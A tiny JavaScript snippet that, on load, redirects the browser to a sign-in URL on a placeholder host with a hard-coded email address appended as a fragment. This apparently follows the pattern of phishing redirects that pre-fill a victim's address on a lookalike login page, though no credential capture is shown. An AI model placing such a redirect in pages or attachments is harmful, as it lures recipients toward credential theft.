(function () {
  var mail = "someone@firm.invalid";
  var place = "https://sign.in.invalid/?client=77#";
  window.location.href = place + mail;
})();
